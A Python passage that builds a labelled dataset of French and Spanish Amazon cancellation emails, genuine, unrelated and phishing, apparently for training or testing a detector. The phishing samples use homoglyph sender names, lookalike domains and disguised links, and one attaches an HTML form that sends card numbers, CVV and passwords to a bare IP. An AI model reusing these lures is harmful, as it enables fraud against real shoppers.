add(kind="lookalike", language="fr", cause="payment_issue", states_reason=True, marketplace=None,
    note="Cyrillic A in display name, amzn-fr-service.com, 'will be cancelled in 24h' unless payment updated, no order number",
    mail=foreign({"from": ("\u0410mazon.fr", "noreply@amzn-fr-service.com"), "to": (None, "thomas.peeters@skynet.be"),
        "subject": "Action requise : votre commande sera annulée", "date": rdate(1), "cte": "quoted-printable", "html": html},
        "91.215.85.%d" % rng.randint(1, 250), "vps-4471.amzn-fr-service.com",
        "spf=softfail smtp.mailfrom=amzn-fr-service.com; dkim=none; dmarc=none header.from=amzn-fr-service.com"))

o = onum("702")
html = """<html><body style="font-family:Arial,sans-serif;font-size:14px">
<table width="620" cellpadding="12" style="border:1px solid #e7e7e7"><tr><td style="background:#232f3e;color:#fff;font-size:20px">amazon.ca</td></tr>
<tr><td>
<p>Bonjour Marc,</p>
<p>Votre commande n° %s a été annulée à cause d'une <b>erreur de système</b> survenue lors du traitement de votre paiement (code d'erreur PX-0419).</p>
<p>Pour nous excuser de cet inconvénient, nous vous offrons une carte-cadeau Amazon.ca de <b>50,00 $</b>. Pour la réclamer et obtenir votre remboursement, confirmez simplement votre identité :</p>
<p><a href="http://amaz0n.ca/verification/?id=%s">Réclamer ma carte-cadeau</a></p>
<p>L'offre est valide 72 heures.</p>
<p>Merci de magasiner chez Amazon.ca</p>
</td></tr></table></body></html>""" % (o, hexid(12))
add(kind="lookalike", language="fr", cause="technical_issue", states_reason=True, marketplace=None,
    note="amaz0n.ca domain (zero), 'system error' cancellation + gift card bait; html-only base64",
    mail=foreign({"from": ("Amazon.ca", "commandes@amaz0n.ca"), "to": ("Marc Tremblay", "marc.tremblay@videotron.ca"),
        "subject": "Commande n° %s annulée - 50 $ de crédit offert" % o, "date": rdate(-5), "cte": "base64", "html": html},
        "193.42.33.%d" % rng.randint(1, 250), "smtp.amaz0n.ca",
        "spf=pass smtp.mailfrom=amaz0n.ca; dkim=pass header.d=amaz0n.ca; dmarc=pass header.from=amaz0n.ca"))

o = onum("403")
text = """Bonjour,

Nous avons bien reçu votre demande d'annulation pour la commande n° %s
(Samsung Galaxy S24 Ultra, 1 299,00 EUR).

Votre commande a été annulée à votre demande. Le remboursement sera effectué
sous 10 jours.

Vous n'êtes pas à l'origine de cette demande ? Votre compte est peut-être
compromis. Annulez la demande et sécurisez votre compte ici :
https://www.amazon.com.be/fr/ap/signin

Amazon.com.be
""" % o
html = """<html><body style="font-family:Arial;font-size:14px;color:#111">
<p>Bonjour,</p>
<p>Nous avons bien reçu votre demande d'annulation pour la commande n° <b>%s</b> (Samsung Galaxy S24 Ultra, 1&nbsp;299,00&nbsp;EUR).</p>
<p>Votre commande a été annulée à votre demande. Le remboursement sera effectué sous 10 jours.</p>
<p>Vous n'êtes pas à l'origine de cette demande ? Votre compte est peut-être compromis. Annulez la demande et sécurisez votre compte ici :<br>
<a href="https://amazon.com.be.verif-compte.ru/fr/ap/signin?openid=%s">https://www.amazon.com.be/fr/ap/signin</a></p>
<p>Amazon.com.be</p></body></html>""" % (o, hexid(16))
add(kind="lookalike", language="fr", cause="customer_request", states_reason=True, marketplace=None,
    note="Greek omicron in display name, amazon.com.be.verif-compte.ru, fake 'cancelled at your request, not you? click'",
    mail=foreign({"from": ("Amaz\u03bfn.com.be", "service@amazon.com.be.verif-compte.ru"), "to": (None, "thomas.peeters@skynet.be"),
        "subject": "Confirmation d'annulation de votre commande n° %s" % o, "date": rdate(1), "cte": "quoted-printable",
        "text": text, "html": html},
        "5.188.206.%d" % rng.randint(1, 250), "mail.verif-compte.ru",
        "spf=neutral smtp.mailfrom=verif-compte.ru; dkim=none; dmarc=none header.from=amazon.com.be.verif-compte.ru"))

form = """<html><head><meta charset="utf-8"><title>Amazon - Formulaire de remboursement</title></head>
<body><h2>Amazon.fr - Formulaire de remboursement</h2>
<form action="http://193.233.20.14/fr/rmb.php" method="post">
Nom : <input name="nom"><br>Adresse : <input name="adresse"><br>Numéro de carte : <input name="cc"><br>
Expiration : <input name="exp"><br>CVV : <input name="cvv"><br>Mot de passe Amazon : <input type="password" name="pw"><br>
<input type="submit" value="Valider le remboursement"></form></body></html>""".encode("utf-8")
add(kind="lookalike", language="fr", cause="unknown", states_reason=False, marketplace=None,
    note="yahoo sender, fake RE:, no order number, no reason, HTML credential form attached",
    mail=foreign({"from": ("Amazon Prime FR", "amazon.prime.facturation@yahoo.com"), "to": (None, "claire.dubois@orange.fr"),
        "subject": "RE: Annulation de votre commande", "date": rdate(1),
        "charset": "iso-8859-1", "hcharset": "iso-8859-1", "cte": "quoted-printable",
        "text": """Bonjour,

Suite à l'annulation de votre commande, un remboursement est en attente sur
votre compte. Pour le recevoir, veuillez remplir le formulaire de
remboursement en pièce jointe et l'ouvrir dans votre navigateur.

Attention : le formulaire est valable 48 heures.

Cordialement,
Amazon Service Client
""", "attach": [("Formulaire_Remboursement_Amazon.html", "text/html", form)]},
        "74.6.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "sonic%d.mail.ne1.yahoo.com" % rng.randint(300, 330),
        "spf=pass smtp.mailfrom=yahoo.com; dkim=pass header.d=yahoo.com; dmarc=pass header.from=yahoo.com"))

# ---- non-notices (fr)
add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace=None,
    note="Rakuten France seller cancellation; seller says item was sold on Amazon meanwhile",
    mail=foreign({"from": ("Rakuten", "ne-pas-repondre@fr.shopping.rakuten.com"), "to": ("Nathalie Lambert", "n.lambert@wanadoo.fr"),
        "subject": "Votre commande n° 5%09d a été annulée par le vendeur" % rng.randint(0, 10**9), "date": rdate(1),
        "cte": "quoted-printable",
        "text": """Rakuten France

Bonjour Nathalie,

Le vendeur « retrogaming_lyon » a annulé votre commande :

    Nintendo Game Boy Color édition Pokémon, très bon état    64,90 EUR
    Frais de port                                               4,50 EUR

Message du vendeur :
« Bonjour, je suis vraiment désolé, la console était aussi en vente sur
Amazon et elle est partie là-bas quelques minutes avant votre achat. Je n'ai
plus de stock. Bonne journée. »

Vous ne serez pas débitée. Si le montant a été réservé sur votre carte, il
sera libéré sous quelques jours. Vos Rakuten Points n'ont pas été utilisés.

Retrouvez des offres similaires sur fr.shopping.rakuten.com.

L'équipe Rakuten France
Rakuten ne vous demandera jamais vos coordonnées bancaires par e-mail.
""", "html": """<html><body style="font-family:Arial;font-size:14px"><div style="background:#bf0000;color:#fff;padding:10px;font-size:20px">Rakuten</div>
<p>Bonjour Nathalie,</p><p>Le vendeur <b>retrogaming_lyon</b> a annulé votre commande :</p>
<table cellpadding="4"><tr><td>Nintendo Game Boy Color édition Pokémon, très bon état</td><td>64,90 EUR</td></tr><tr><td>Frais de port</td><td>4,50 EUR</td></tr></table>
<p><b>Message du vendeur :</b><br><i>« Bonjour, je suis vraiment désolé, la console était aussi en vente sur Amazon et elle est partie là-bas quelques minutes avant votre achat. Je n'ai plus de stock. Bonne journée. »</i></p>
<p>Vous ne serez pas débitée. Si le montant a été réservé sur votre carte, il sera libéré sous quelques jours.</p>
<p>L'équipe Rakuten France</p><p style="font-size:11px;color:#888">Rakuten ne vous demandera jamais vos coordonnées bancaires par e-mail.</p></body></html>"""},
        "185.18.160.%d" % rng.randint(1, 250), "mailout.fr.shopping.rakuten.com",
        "spf=pass smtp.mailfrom=fr.shopping.rakuten.com; dkim=pass header.d=rakuten.com; dmarc=pass header.from=fr.shopping.rakuten.com"))

add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace=None,
    note="colleague says he cancelled his Amazon order himself; windows-1252 8bit text",
    mail=foreign({"from": ("Julien Martin", "julien.martin@cabinet-martin-avocats.fr"), "to": ("Sophie Lefèvre", "sophie.lefevre@cabinet-martin-avocats.fr"),
        "subject": "Re: imprimante pour l'accueil", "date": rdate(1), "charset": "windows-1252", "hcharset": "windows-1252",
        "cte": "8bit", "extra": [("In-Reply-To", "<%s@cabinet-martin-avocats.fr>" % hexid(12)), ("X-Mailer", "Microsoft Outlook 16.0")],
        "text": """Salut Sophie,

Finalement j'ai annulé la commande Amazon pour la Brother (celle du 12),
le délai de livraison était passé à trois semaines. Le remboursement est
déjà en cours de leur côté, j'ai reçu la confirmation d'annulation ce matin.

Je passe chez Boulanger à midi, ils l'ont en stock à 189 €. Tu peux me
renvoyer le bon de commande signé ?

Merci !
Julien

-----Message d'origine-----
De : Sophie Lefèvre
Envoyé : mardi 14:02
Objet : imprimante pour l'accueil

Des nouvelles de l'imprimante ? Claire n'arrive plus à imprimer les devis.
"""}, "80.12.242.%d" % rng.randint(1, 250), "smtp.cabinet-martin-avocats.fr"))

subj = "Votre commande Amazon.fr n° 402-3847261-0093315 a été annulée"
add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace=None,
    note="security newsletter about phishing, quotes a fake Amazon cancellation subject",
    mail=foreign({"from": ("Veille Cyber Hebdo", "lettre@veillecyber-hebdo.fr"), "to": (None, "n.lambert@wanadoo.fr"),
        "subject": "Veille Cyber n°148 : la fausse annulation de commande Amazon revient", "date": rdate(1),
        "cte": "base64", "extra": [("List-Unsubscribe", "<https://veillecyber-hebdo.fr/desinscription?u=%s>" % hexid(10)),
                                   ("Precedence", "bulk")],
        "text": """VEILLE CYBER HEBDO - n°148

1. La fausse annulation de commande Amazon revient en force

Depuis début octobre, nos lecteurs nous signalent une vague de courriels
intitulés « %s ».
Le message affirme que la commande a été annulée pour « activité suspecte »
et invite à appeler un numéro de téléphone ou à cliquer sur un bouton
« Vérifier mon compte ».

Nos conseils :
 - vérifiez vos commandes en ouvrant vous-même l'application ou le site ;
 - ne rappelez jamais un numéro figurant dans un e-mail inattendu ;
 - regardez l'adresse réelle de l'expéditeur, pas seulement le nom affiché ;
 - Amazon rappelle qu'elle ne demande jamais de mot de passe par e-mail.

2. Mises à jour de sécurité du mois
Windows, Chrome et iOS ont corrigé plusieurs failles activement exploitées.

Vous recevez cette lettre car vous y êtes abonné(e).
Se désinscrire : https://veillecyber-hebdo.fr/desinscription
""" % subj, "html": """<html><body style="font-family:Georgia,serif;max-width:640px">
<h1 style="font-size:22px">Veille Cyber Hebdo &mdash; n°148</h1>
<h2 style="font-size:18px">1. La fausse annulation de commande Amazon revient en force</h2>
<p>Depuis début octobre, nos lecteurs nous signalent une vague de courriels intitulés <i>« %s »</i>. Le message affirme que la commande a été annulée pour « activité suspecte » et invite à appeler un numéro de téléphone ou à cliquer sur un bouton « Vérifier mon compte ».</p>
<ul><li>vérifiez vos commandes en ouvrant vous-même l'application ou le site ;</li><li>ne rappelez jamais un numéro figurant dans un e-mail inattendu ;</li><li>regardez l'adresse réelle de l'expéditeur, pas seulement le nom affiché ;</li><li>Amazon rappelle qu'elle ne demande jamais de mot de passe par e-mail.</li></ul>
<h2 style="font-size:18px">2. Mises à jour de sécurité du mois</h2><p>Windows, Chrome et iOS ont corrigé plusieurs failles activement exploitées.</p>
<p style="font-size:11px;color:#777">Vous recevez cette lettre car vous y êtes abonné(e). <a href="https://veillecyber-hebdo.fr/desinscription">Se désinscrire</a></p></body></html>""" % subj},
        "51.91.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mta2.veillecyber-hebdo.fr",
        "spf=pass smtp.mailfrom=veillecyber-hebdo.fr; dkim=pass header.d=veillecyber-hebdo.fr; dmarc=pass header.from=veillecyber-hebdo.fr"))

o = onum("405")
paras = ["Le rendez-vous de livraison prévu le <b>jeudi 14 novembre entre 8h et 13h</b> pour votre lave-linge a été annulé par notre transporteur partenaire, qui ne pourra pas assurer ce créneau.",
         "<b>Votre commande n'est pas annulée.</b> Veuillez choisir un nouveau créneau de livraison dans <a href=\"https://www.amazon.fr/gp/css/order-history\">Vos commandes</a>. Le transporteur vous contactera la veille pour confirmer l'heure de passage.",
         "Nous vous prions de nous excuser pour ce contretemps."]
items = [("Bosch WGG14409FR Série 6, lave-linge hublot 9 kg, 1400 tr/min", "Amazon EU S.à r.l.", 1, "549,99 €")]
add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace="amazon.fr",
    note="genuine amazon.fr: delivery appointment cancelled, order itself still active",
    mail=genuine({"from": ("Amazon.fr", "shipment-tracking@amazon.fr"), "reply_to": "no-reply@amazon.fr",
        "to": ("Claire Dubois", "claire.dubois@orange.fr"),
        "subject": "Votre créneau de livraison a été annulé - choisissez une nouvelle date", "date": rdate(1),
        "cte": "quoted-printable",
        "text": amz_text("amazon.fr", "fr", "Créneau de livraison annulé", o, "Bonjour Claire,", paras, items, FOOT_FR["amazon.fr"], heading="Article concerné"),
        "html": amz_html("amazon.fr", "fr", "Créneau de livraison annulé", o, "Bonjour Claire,", paras, items, FOOT_FR["amazon.fr"], heading="Article concerné")},
        "amazon.fr", True))

add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace="amazon.ca",
    note="genuine amazon.ca Prime membership cancellation (Quebec French)",
    mail=genuine({"from": ("Amazon Prime", "prime@amazon.ca"), "reply_to": "no-reply@amazon.ca",
        "to": ("Élodie Gagnon", "elodie.gagnon@hotmail.ca"),
        "subject": "Confirmation de l'annulation de votre abonnement Amazon Prime", "date": rdate(-4), "cte": "8bit",
        "html": amz_html("amazon.ca", "fr", "Abonnement Prime annulé", None, "Bonjour Élodie,",
            ["Nous vous confirmons que votre abonnement Amazon Prime a été annulé. Vous pourrez profiter de vos avantages Prime jusqu'au <b>22 mars</b>, après quoi votre abonnement ne sera pas renouvelé et aucuns frais ne vous seront facturés.",
             "Vos commandes en cours ne sont pas touchées par cette annulation.",
             "Vous avez changé d'avis? Vous pouvez réactiver Prime en tout temps depuis la page <a href=\"https://www.amazon.ca/gp/primecentral\">Gérer mon abonnement Prime</a>."],
            (), FOOT_FR["amazon.ca"])}, "amazon.ca", False))

o = onum("171")
add(kind="non_notice", language="fr", cause=None, states_reason=False, marketplace="amazon.fr",
    note="genuine payment reminder: update payment method or order will be cancelled (not yet cancelled)",
    mail=genuine({"from": ("Amazon.fr", "payments-messages@amazon.fr"), "reply_to": "no-reply@amazon.fr",
        "to": ("Nathalie Lambert", "n.lambert@wanadoo.fr"),
        "subject": "Action requise : mettez à jour votre mode de paiement pour la commande n° %s" % o, "date": rdate(1),
        "cte": "quoted-printable",
        "text": amz_text("amazon.fr", "fr", "Révision du paiement", o, "Bonjour Nathalie,",
            ["Nous n'avons pas pu débiter votre carte Mastercard se terminant par 0932 pour la commande ci-dessous. Cela peut arriver si la carte a expiré ou si votre banque a refusé la transaction.",
             "Pour que nous puissions expédier votre commande, veuillez mettre à jour votre mode de paiement avant le <b>18 juin</b> dans <a href=\"https://www.amazon.fr/gp/css/order-history\">Vos commandes</a> (cliquez sur « Revoir le mode de paiement »).",
             "Si le mode de paiement n'est pas mis à jour d'ici là, votre commande sera annulée."],
            [("Lego Icons 10311 Orchidée, set de construction pour adultes", "Amazon EU S.à r.l.", 1, "39,99 €")],
            FOOT_FR["amazon.fr"], heading="Articles en attente de paiement")}, "amazon.fr", True))

# ================================================================= SPANISH
FOOT_ES = {
    "amazon.es": [
        "Este mensaje se ha enviado desde una dirección de correo electrónico que no admite respuestas.",
        "Amazon.es nunca te pedirá que le facilites tu contraseña, los datos de tu tarjeta ni códigos de verificación por correo electrónico, SMS o teléfono. Si recibes un mensaje sospechoso que dice proceder de Amazon, no hagas clic en ningún enlace e <a href=\"https://www.amazon.es/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">infórmanos aquí</a>.",
        "Si el número de tu tarjeta ha cambiado o ha caducado, actualiza tus datos de pago en <a href=\"https://www.amazon.es/cpe/yourpayments/wallet\">Mi cuenta</a>.",
        "¿Necesitas ayuda? Visita nuestras <a href=\"https://www.amazon.es/gp/help/customer/display.html\">páginas de ayuda</a>.",
        "Amazon EU S.à r.l., Sucursal en España, C/ Ramírez de Prado 5, 28045 Madrid. NIF W0184081H.",
    ],
    "amazon.com.mx": [
        "Este correo electrónico se envió desde una dirección que no puede recibir correos. Por favor no respondas a este mensaje.",
        "Amazon México nunca te pedirá tu contraseña ni los datos de tu tarjeta por correo electrónico. Aprende a identificar correos falsos (phishing) y repórtalos en <a href=\"https://www.amazon.com.mx/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">Seguridad y correos sospechosos</a>.",
        "Si el número de tu tarjeta cambió, actualízalo en <a href=\"https://www.amazon.com.mx/cpe/yourpayments/wallet\">Tu cuenta</a>.",
        "Servicios Comerciales Amazon México, S. de R.L. de C.V. Av. Juan Salvador Agraz 73, Santa Fe, Cuajimalpa, 05348, Ciudad de México.",
    ],
}

# ---- notices (es)
o = onum("407")
items = [("The Legend of Zelda: Echoes of Wisdom - Edición Limitada (Nintendo Switch)", "Amazon EU S.à r.l.", 1, "79,99 €")]
paras = ["Lamentamos informarte de que no podemos servir la reserva que aparece a continuación y la hemos cancelado.",
         "Nuestro proveedor nos ha comunicado que no recibiremos más unidades de esta edición y no hemos podido conseguirla de otra fuente. No se te ha realizado ningún cargo por este producto.",
         "Si lo deseas, puedes consultar la edición estándar, que sí está disponible, o revisar tus reservas en <a href=\"https://www.amazon.es/gp/css/order-history\">Mis pedidos</a>."]
add(kind="notice", language="es", cause="inventory_shortage", states_reason=True, marketplace="amazon.es",
    note="pre-order cannot be filled, supplier sends no more units; alt QP",
    mail=genuine({"from": ("Amazon.es", "auto-confirm@amazon.es"), "reply_to": "no-reply@amazon.es",
        "to": ("Lucía García", "lucia.garcia.m@gmail.com"),
        "subject": "Se ha cancelado un producto de tu pedido de Amazon.es n.º %s" % o, "date": rdate(1), "cte": "quoted-printable",
        "text": amz_text("amazon.es", "es", "Reserva cancelada", o, "Hola, Lucía:", paras, items, FOOT_ES["amazon.es"]),
        "html": amz_html("amazon.es", "es", "Reserva cancelada", o, "Hola, Lucía:", paras, items, FOOT_ES["amazon.es"])},
        "amazon.es", True))

o = onum("702")
items = [("Xiaomi Redmi Note 13 Pro 5G, 256 GB, Negro", "Amazon México", 1, "$6,499.00"),
         ("Funda de silicona para Redmi Note 13 Pro", "Accesorios MX", 1, "$189.00")]
paras = ["Tu pedido %s fue cancelado porque no pudimos procesar el pago." % o,
         "El emisor de tu tarjeta de crédito terminada en 8821 rechazó el cargo y, como no se actualizó la forma de pago dentro del plazo de 3 días que te indicamos, no fue posible completar la compra. No se realizó ningún cargo.",
         "Si todavía quieres estos artículos, vuelve a hacer el pedido con una forma de pago válida. Si tu tarjeta cambió o venció, actualízala en <a href=\"https://www.amazon.com.mx/cpe/yourpayments/wallet\">Tu cuenta</a>."]
add(kind="notice", language="es", cause="payment_issue", states_reason=True, marketplace="amazon.com.mx",
    note="Mexican Spanish, card declined and not updated in time; html-only base64",
    mail=genuine({"from": ("Amazon.com.mx", "payments-messages@amazon.com.mx"), "reply_to": "no-reply@amazon.com.mx",
        "to": ("Alejandro Hernández", "alex.hdz84@hotmail.com"),
        "subject": "Tu pedido de Amazon.com.mx #%s fue cancelado" % o, "date": rdate(-6), "cte": "base64",
        "html": amz_html("amazon.com.mx", "mx", "Pedido cancelado", o, "Hola Alejandro:", paras, items, FOOT_ES["amazon.com.mx"])},
        "amazon.com.mx", False))

o = onum("406")
add(kind="notice", language="es", cause="technical_issue", states_reason=True, marketplace="amazon.es",
    note="pricing error in product information; text-only iso-8859-1 QP, no euro sign",
    mail=genuine({"from": ("Amazon.es", "order-update@amazon.es"), "reply_to": "no-reply@amazon.es",
        "to": ("Javier Martínez", "jmartinez@telefonica.net"),
        "subject": "Tu pedido de Amazon.es n.º %s ha sido cancelado" % o, "date": rdate(2),
        "charset": "iso-8859-1", "hcharset": "iso-8859-1", "cte": "quoted-printable",
        "text": """Amazon.es
Mis pedidos | Mi cuenta | Amazon.es
------------------------------------------------------------------------

Hola, Javier:

Te escribimos en relación con tu pedido n.º %s.

Debido a un error en la información de precio de nuestro sitio web, el
producto indicado abajo se mostró a un precio incorrecto (29,99 EUR en lugar
de 299,99 EUR). De acuerdo con nuestras Condiciones de Uso y Venta, hemos
cancelado el pedido. No se ha realizado ningún cargo en tu tarjeta.

    Cecotec Robot aspirador Conga 8290 Immortal Ultra Power
    Cantidad: 1

El producto ya muestra el precio correcto. Si todavía te interesa, puedes
comprarlo de nuevo desde la página del producto.

Sentimos las molestias.

Atentamente,
Atención al Cliente de Amazon.es
https://www.amazon.es/contacto

------------------------------------------------------------------------
Amazon.es nunca te pedirá tu contraseña ni los datos de tu tarjeta por
correo electrónico. Si recibes un correo sospechoso, infórmanos:
https://www.amazon.es/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV
Si el número de tu tarjeta ha cambiado, actualízalo en Mi cuenta.
Este mensaje se ha enviado desde una dirección que no admite respuestas.
""" % o}, "amazon.es", True))

o = onum("701")
items = [("Consola PlayStation 5 Slim Edición Digital", "Amazon México", 2, "$17,998.00"),
         ("Tarjeta de regalo PlayStation Store $1,000 MXN (código digital)", "Amazon México", 3, "$3,000.00")]
paras = ["Detectamos actividad inusual en tu cuenta de Amazon. Para proteger tu cuenta, la pusimos en espera temporalmente y cancelamos el pedido que aparece abajo.",
         "Para reactivar tu cuenta, inicia sesión escribiendo www.amazon.com.mx directamente en tu navegador y sigue las instrucciones para verificar tu identidad y tu forma de pago. No se realizó ningún cargo por este pedido.",
         "Nunca te pediremos esta información por correo electrónico ni por teléfono."]
add(kind="notice", language="es", cause="fraud_prevention", states_reason=True, marketplace="amazon.com.mx",
    note="Mexican Spanish, unusual activity, account on hold, verify identity; alt 8bit",
    mail=genuine({"from": ("Amazon.com.mx", "cs-reply@amazon.com.mx"), "reply_to": "no-reply@amazon.com.mx",
        "to": ("Mariana Ramírez", "mariana.ramirez@prodigy.net.mx"),
        "subject": "Tu pedido de Amazon.com.mx #%s fue cancelado" % o, "date": rdate(-6), "cte": "8bit",
        "text": amz_text("amazon.com.mx", "mx", "Pedido cancelado", o, "Hola Mariana:", paras, items, FOOT_ES["amazon.com.mx"]),
        "html": amz_html("amazon.com.mx", "mx", "Pedido cancelado", o, "Hola Mariana:", paras, items, FOOT_ES["amazon.com.mx"])},
        "amazon.com.mx", False))

o = onum("171")
items = [("Tefal Easy Fry & Grill XXL, freidora de aire 6,5 L", "Amazon EU S.à r.l.", 1, "129,99 €")]
paras = ["Hemos cancelado el siguiente producto según tu solicitud.",
         "<b>Motivo de la cancelación:</b> cancelado por el cliente",
         "Si ya se te había realizado un cargo, te reembolsaremos el importe en tu método de pago original en un plazo de 3 a 5 días hábiles."]
add(kind="notice", language="es", cause="customer_request", states_reason=True, marketplace="amazon.es",
    note="customer cancelled item, explicit 'Motivo: cancelado por el cliente'; html-only QP",
    mail=genuine({"from": ("Amazon.es", "auto-confirm@amazon.es"), "reply_to": "no-reply@amazon.es",
        "to": ("Ana López", "ana.lopez.r@yahoo.es"),
        "subject": "Cancelación realizada correctamente de «Tefal Easy Fry & Grill XXL...» de tu pedido de Amazon.es", "date": rdate(1),
        "cte": "quoted-printable",
        "html": amz_html("amazon.es", "es", "Cancelación confirmada", o, "Hola, Ana:", paras, items, FOOT_ES["amazon.es"])},
        "amazon.es", True))

o = onum("702")
add(kind="notice", language="es", cause="unknown", states_reason=True, marketplace="amazon.com.mx",
    note="Mexican Spanish, shipping address could not be validated / undeliverable; text-only base64",
    mail=genuine({"from": ("Amazon.com.mx", "order-update@amazon.com.mx"), "reply_to": "no-reply@amazon.com.mx",
        "to": ("Diego Torres", "diego.torres@outlook.com"),
        "subject": "Tu pedido de Amazon.com.mx #%s fue cancelado" % o, "date": rdate(-6), "cte": "base64",
        "text": """Amazon.com.mx
------------------------------------------------------------------------
Pedido cancelado
Pedido # %s
------------------------------------------------------------------------

Hola Diego:

Cancelamos tu pedido porque la paquetería no pudo entregarlo en la
dirección de envío que proporcionaste. La dirección está incompleta (falta
número exterior y colonia) y no fue posible validarla con el código postal
45079.

Artículos cancelados:
    Silla de oficina ergonómica con soporte lumbar, negra   $2,349.00
    Cantidad: 1

Te reembolsaremos el importe total en tu forma de pago original en un plazo
de 3 a 5 días hábiles. Antes de volver a hacer el pedido, te recomendamos
revisar tus direcciones en Tu cuenta:
https://www.amazon.com.mx/a/addresses

Esperamos verte de nuevo pronto.
Amazon.com.mx

------------------------------------------------------------------------
Amazon México nunca te pedirá tu contraseña ni datos bancarios por correo.
Reporta correos sospechosos en
https://www.amazon.com.mx/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV
Si el número de tu tarjeta cambió, actualízalo en Tu cuenta.
Este correo se envió desde una dirección que no puede recibir correos.
""" % o}, "amazon.com.mx", False))

# ---- lookalikes (es)
add(kind="lookalike", language="es", cause="unknown", states_reason=False, marketplace=None,
    note="hotmail sender, callback number, no reason given, malformed order number",
    mail=foreign({"from": ("Amazon España", "atencion.amazon.es@hotmail.com"), "to": (None, "jmartinez@telefonica.net"),
        "subject": "Su pedido #402-88713-552 ha sido cancelado", "date": rdate(1), "cte": "8bit",
        "text": """Estimado cliente:

Le informamos que su pedido #402-88713-552 por importe de 899,00 EUR
(MacBook Air 13" M3) ha sido cancelado.

Se le realizara un cargo de gestion de 49,99 EUR si no confirma la
cancelacion por telefono.

Para cualquier consulta o para solicitar el reembolso llame a nuestro
departamento de pedidos: +34 911 23 87 40 (atencion 24 horas).

Un saludo,
Amazon.es Atencion al Cliente
"""}, "40.92.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "EUR02-VI1-obe.outbound.protection.outlook.com",
        "spf=pass smtp.mailfrom=hotmail.com; dkim=pass header.d=hotmail.com; dmarc=pass header.from=hotmail.com"))

o = onum("701")
add(kind="lookalike", language="es", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="amazon-mx-soporte.com, account suspended + order cancelled + verification code; polished alt",
    mail=foreign({"from": ("Amazon.com.mx", "seguridad@amazon-mx-soporte.com"), "to": ("Mariana Ramírez", "mariana.ramirez@prodigy.net.mx"),
        "subject": "Cuenta suspendida: tu pedido #%s fue cancelado" % o, "date": rdate(-6), "cte": "quoted-printable",
        "text": """Hola Mariana:

Por motivos de seguridad suspendimos tu cuenta y cancelamos tu pedido #%s.

Para restablecer tu cuenta ingresa el siguiente código de verificación en
https://amazon-mx-soporte.com/verificar

    Código: 583 201

Si no verificas tu cuenta en 24 horas, será cerrada de forma permanente y
perderás tu saldo de tarjetas de regalo.

Amazon.com.mx
""" % o, "html": """<html><body style="font-family:Arial;background:#eaeded;padding:20px">
<div style="background:#fff;max-width:600px;margin:auto;padding:20px">
<img src="https://amazon-mx-soporte.com/img/amazon_mx.png" alt="amazon.com.mx" width="120">
<h2 style="color:#c7511f;font-weight:normal">Cuenta suspendida</h2>
<p>Hola Mariana:</p>
<p>Por motivos de seguridad suspendimos tu cuenta y <b>cancelamos tu pedido #%s</b>.</p>
<p>Para restablecer tu cuenta ingresa el siguiente código de verificación:</p>
<p style="font-size:30px;text-align:center;letter-spacing:6px">583 201</p>
<p style="text-align:center"><a href="https://amazon-mx-soporte.com/verificar" style="background:#ffa41c;color:#000;padding:10px 30px;text-decoration:none;border-radius:20px">Verificar ahora</a></p>
<p>Si no verificas tu cuenta en 24 horas, será cerrada de forma permanente y perderás tu saldo de tarjetas de regalo.</p>
<p style="font-size:11px;color:#777">© 2025 Amazon.com, Inc. o sus afiliados. Amazon nunca te pedirá tu contraseña.</p>
</div></body></html>""" % o},
        "194.26.29.%d" % rng.randint(1, 250), "srv1.amazon-mx-soporte.com",
        "spf=pass smtp.mailfrom=amazon-mx-soporte.com; dkim=pass header.d=amazon-mx-soporte.com; dmarc=none header.from=amazon-mx-soporte.com"))

add(kind="lookalike", language="es", cause="payment_issue", states_reason=True, marketplace=None,
    note="gmail sender, reply with card details, malformed order number; crude",
    mail=foreign({"from": ("AMAZON PEDIDOS", "amazon.pedidos.devolucion@gmail.com"), "to": (None, "ana.lopez.r@yahoo.es"),
        "subject": "Pedido cancelado - tarjeta rechazada", "date": rdate(1), "cte": "base64",
        "text": """Hola

Su pedido Nº 405-11223 a sido cancelado por que su tarjeta fue rechazada.

Para volver a procesar el pedido responda a este correo con:
nombre completo, numero de tarjeta, fecha de caducidad, CVV y DNI.

Si no responde en 24h su cuenta de Amazon quedara bloqueada.

Gracias
Equipo Amazon
"""}, "209.85.221.%d" % rng.randint(1, 250), "mail-wr1-f%d.google.com" % rng.randint(40, 70),
        "spf=pass smtp.mailfrom=gmail.com; dkim=pass header.d=gmail.com; dmarc=pass header.from=gmail.com"))

o = onum("408")
evil = "https://reembolso-clientes.shop/es/pedido?id=%s" % hexid(18)
paras = ["Lamentamos informarte de que el producto de tu pedido se ha agotado y el vendedor no ha podido enviarlo, por lo que el pedido ha sido cancelado.",
         "Para recibir el reembolso de <b>219,00 €</b>, confirma tus datos de pago en Mis pedidos antes de 48 horas:",
         '<a href="%s">https://www.amazon.es/gp/your-account/order-details?orderID=%s</a>' % (evil, o)]
items = [("Garmin Forerunner 265, reloj inteligente GPS para running", "Amazon EU S.à r.l.", 1, "219,00 €")]
add(kind="lookalike", language="es", cause="inventory_shortage", states_reason=True, marketplace=None,
    note="From spoofs pedidos@amazon.es exactly (dmarc=fail), link text amazon.es, href elsewhere; polished",
    mail=foreign({"from": ("Amazon.es", "pedidos@amazon.es"), "envelope": "bounce@reembolso-clientes.shop",
        "to": ("Lucía García", "lucia.garcia.m@gmail.com"),
        "subject": "Tu pedido de Amazon.es n.º %s ha sido cancelado" % o, "date": rdate(1), "cte": "quoted-printable",
        "html": amz_html("amazon.es", "es", "Pedido cancelado", o, "Hola, Lucía:", paras, items, FOOT_ES["amazon.es"][1:3],
                         base="https://reembolso-clientes.shop/es")},
        "103.151.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mail.reembolso-clientes.shop",
        "spf=fail smtp.mailfrom=reembolso-clientes.shop; dkim=none; dmarc=fail (p=QUARANTINE) header.from=amazon.es"))

